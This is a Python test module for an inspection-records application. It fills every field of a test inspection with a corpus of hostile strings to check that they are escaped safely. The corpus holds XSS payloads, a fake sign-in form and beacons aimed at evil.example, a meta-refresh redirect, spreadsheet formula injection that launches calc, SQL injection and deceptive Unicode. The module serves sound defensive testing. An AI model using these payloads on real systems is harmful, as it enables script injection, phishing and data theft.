"""Sixty texts that would do something wherever text is taken for more than text, and writing them into every field."""

from __future__ import annotations

import contextlib
from collections.abc import Sequence
from datetime import UTC, datetime
from itertools import cycle
from uuid import UUID

from evidence import (
    activities,
    children,
    concerns,
    frameworks,
    imports,
    inspections,
    items,
    names,
    packs,
    people,
    providers,
    removals,
    retention,
    reviews,
    teams,
)
from evidence.access import INSTALLATION, Role, Status, User
from evidence.activities import Arrangement
from evidence.concerns import Account, Telling
from evidence.errors import InvalidInput
from evidence.ids import new_id
from evidence.inspections import Body, Inspection
from evidence.items.notes import AreaTag
from evidence.packs import Contents
from evidence.private import drafts
from evidence.store import Store
from tests.conftest import a_note, a_plan

HIT = "parent.__hit=top.__hit=window.__hit=1"
EVIL = "https://evil.example"
CORPUS: tuple[str, ...] = (
    # HTML
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f'<img src=x onerror="{HIT}">',
    f'<img src="{EVIL}/beacon.png">',
    f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    f'<iframe src="{EVIL}"></iframe>',
    f'<svg onload="{HIT}"><circle r=9></circle></svg>',
    f"<svg><script>{HIT}</script></svg>",
    f'<details open ontoggle="{HIT}">x</details>',
    f'<video src=x onerror="{HIT}"></video>',
    f'<input autofocus onfocus="{HIT}">',
    f'<form action="{EVIL}"><input name=password><button>Sign in again</button></form>',
    '<div style="position:fixed;inset:0;z-index:99999999;background:#fff">Session ended</div>',
    "<style>body{display:none!important}</style>",
    f"<style>@import url({EVIL}/x.css);</style>",
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f'<base href="{EVIL}/">',
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<a href="javascript:{HIT}">Open</a>',
    f'<object data="{EVIL}/x.swf"></object>',
    f'"><script>{HIT}</script>',
    f"'><img src=x onerror='{HIT}'>",
    f'" onmouseover="{HIT}" x="',
    f"`<img src=x onerror={HIT}>`",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror={HIT}>'>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"\\u003cimg src=x onerror={HIT}\\u003e",
    # Markdown, and what Streamlit adds to it
    f"[Open the plan]({EVIL}/phish)",
    f"![plan]({EVIL}/beacon.png)",
    f"[x](javascript:{HIT})",
    f"[x]: {EVIL}\n[Click][x]",
    f"<{EVIL}/auto>",
    f"See {EVIL}/bare or www.evil.example or mallory@evil.example",
    "# A heading\n***\n| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** _it_ ~~out~~ `code` > quote",
    "```html\n<b>x</b>\n```",
    "- [ ] to do\n1. one\n   * two",
    ":material/delete: :red[Overdue] :blue-background[x] :small[y]",
    ":streamlit: :tada: :+1: :rainbow[colours] :orange-badge[New]",
    "$x^2$ and $$\\frac{1}{2}$$ costs $5 to $10",
    f"$\\href{{javascript:{HIT}}}{{x}} \\includegraphics{{{EVIL}/x.png}}$",
    "[^1] and a note [^1]: below ==marked== <-> ->  (c)",
    # Templates, formulas, expressions, statements
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "%s %d %n %(name)s {0} {name!r} {__class__}",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    f"datum['x'] + {{'signal': '{HIT}'}} toString()",
    "'; drop table item_now; -- \" or 1=1 /*",
    # Letters that are not what they seem
    "\u202egnp.exe\u202c and \u2066hidden\u2069 \u200fend",
    "zero\u200bwidth\u200d\u2060joined\ufeff \u00ad soft",
    "مرحبا بالعالم שלום (abc) 123",
    "Z" + "\u0351\u0321\u0489\u035f" * 40 + "algo",
    "w" * 190,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f e\u0301 \ufdfa",
    "a\tb  c   \u00a0\u2003d",
)
# These cannot be kept at all, in any field.
UNKEEPABLE = ("\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\ud800", "x\udfff", "\ufffe", "\x7f", "\x07bell")
LINE = 200  # the longest that a name or title may be


class Lines:
    """For each field that takes a short line the next of the texts that are one."""

    def __init__(self, texts: Sequence[str]) -> None:
        self.texts = [text for text in texts if len(text) <= LINE]
        self._next = cycle(self.texts)

    def __call__(self) -> str:
        return next(self._next)


def everywhere(store: Store, ids: dict[str, UUID], texts: Sequence[str], reference: str) -> Inspection:
    """An inspection in which these texts stand in every field: all of them in the texts of items, in turn in others.

    ids: of the lead and the inspector. Returns it as its lead sees it.
    """
    lead, inspector = (people.user(store, ids[who], None) for who in ("lead", "inspector"))
    line = Lines(texts)
    led = _set_up(store, lead, line, reference)
    teams.join(store, lead, led, person_id=ids["inspector"], role=Role.INSPECTOR, discipline="education")
    led, seen = (inspections.get(store, who, led.inspection_id) for who in (lead, inspector))
    visits = _fieldwork(store, lead, led, line)
    logged = [
        _item(store, inspector, seen, texts, number, visits) for number in range(len(texts) + 4)
    ]  # the last ones go again
    _reviews(store, lead, inspector, led, seen, logged, texts)
    items.withdraw(store, lead, led, item_id=logged[-1], reason=texts[0])
    removals.ask(store, lead, led, item_id=logged[-2], reason=texts[-1])
    begun = {"note": {"fact": texts[0], "words": texts[-1]}, f"amend.fact:{logged[0]}": {"text": texts[0]}}
    for form, body in begun.items():
        drafts.save(
            store.private, ids["lead"], draft_id=new_id(), inspection_id=led.inspection_id, form=form, body=body
        )
    for text in line.texts:
        with contextlib.suppress(InvalidInput):  # not everything can be a name to avoid
            names.add(store, lead, led, f"{text} = the mother")
    _concerns(store, lead, led, logged, texts)
    imports.bring_in(
        store, lead, led, name=line(), content=b"happened_at,source_kind,fact\n2026-11-17,document,Read.\n"
    )
    build = packs.start(store, lead, led, Contents(("coverage",), made_for=line()))
    build.wait(60)
    assert build.state == "done", build.error
    for to in (Status.PAUSED, Status.LIVE):
        inspections.move(store, lead, led, to=to, reason=texts[0])
        led = inspections.get(store, lead, led.inspection_id)
    retention.hold(store, lead, led, held=True, reason=texts[-1])
    return led


def _concerns(store: Store, lead: User, led: Inspection, logged: Sequence[UUID], texts: Sequence[str]) -> None:
    """With who was told, where they live and what settled it."""
    line, now = Lines(texts), datetime(2026, 11, 20, 10, tzinfo=UTC)
    for number, text in enumerate(texts[:20]):
        account = Account(text, now, lives_in=line(), item_id=logged[number])
        concern_id = new_id()
        concerns.log(store, lead, led, concern_id=concern_id, account=account)
        concern = concerns.get(store, lead, led, concern_id)
        telling = Telling(line(), now, reference=line(), acknowledged_at=now, acknowledged_by=line())
        concerns.refer(store, lead, led, concern=concern, telling=telling)
        if number % 2:
            concern = concerns.get(store, lead, led, concern_id)
            concerns.settle(store, lead, led, concern=concern, reason=text)


def people_called(store: Store, texts: Sequence[str]) -> None:
    """Somebody of each name."""
    for number, name in enumerate(Lines(texts).texts):
        people.invite(store, INSTALLATION, email=f"hostile{number}@example.org", name=name)


def _set_up(store: Store, lead: User, line: Lines, reference: str) -> Inspection:
    plan = a_plan(
        reference=f"{reference} {line()}"[:LINE],
        area_name=line(),
        bodies=(Body("local_authority", line()), Body("other", line())),
    )
    framework = frameworks.load_all()["area-send-2025"]
    return inspections.set_up(store, lead, framework=framework, plan=plan, discipline="education")


def _fieldwork(store: Store, lead: User, led: Inspection, line: Lines) -> list[UUID]:
    child, visits = children.keep(store, lead, led).child_id, []
    for number in range(10):
        provider = providers.keep(store, lead, led, name=line(), kind="mainstream_primary")
        given = Arrangement(
            kind="ap_visit" if number % 2 else "parent_group",
            title=line(),
            planned_at=datetime(2026, 11, 16 + number % 5, 8 + number, tzinfo=UTC),
            provider_id=provider.provider_id,
            place=line(),
            spoken_to=(line(), line()),
            children=(child,),
            notes=line(),
        )
        visits.append(activities.plan(store, lead, led, given))
    return visits


def _item(store: Store, by: User, seen: Inspection, texts: Sequence[str], number: int, visits: Sequence[UUID]) -> UUID:
    fact, words, meaning = (texts[(number + turn * len(texts) // 3) % len(texts)] for turn in range(3))
    note = a_note(
        fact,
        words=words,
        meaning=meaning,
        source_role=Lines([*texts[number % len(texts) :], *texts])(),
        activity_id=visits[number % len(visits)],
        areas=(AreaTag("I2"),) if number % 3 else (),
        stance="working_well" if number % 2 else "needs_better",
    )
    return items.log(store, by, seen, item_id=new_id(), note=note).item_id


def _reviews(
    store: Store,
    lead: User,
    inspector: User,
    led: Inspection,
    seen: Inspection,
    logged: Sequence[UUID],
    texts: Sequence[str],
) -> None:
    """Some are only asked about, some have an answer."""
    for number, item_id in enumerate(logged[:8]):
        revision, text = items.get(store, led, item_id).revision_id, texts[-1 - number % len(texts)]
        reviews.query(store, lead, led, item_id=item_id, revision_id=revision, comment=text)
        if number % 2:
            reviews.answer(store, inspector, seen, item_id=item_id, revision_id=revision, comment=text)
